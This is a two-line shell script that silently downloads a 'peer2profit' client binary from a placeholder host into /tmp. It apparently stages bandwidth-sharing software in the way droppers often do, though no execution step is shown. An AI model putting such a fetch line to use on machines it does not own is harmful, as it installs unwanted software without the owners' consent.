#!/bin/sh
curl -sLo /tmp/p https://files.example.com/peer2profit/p2pclient
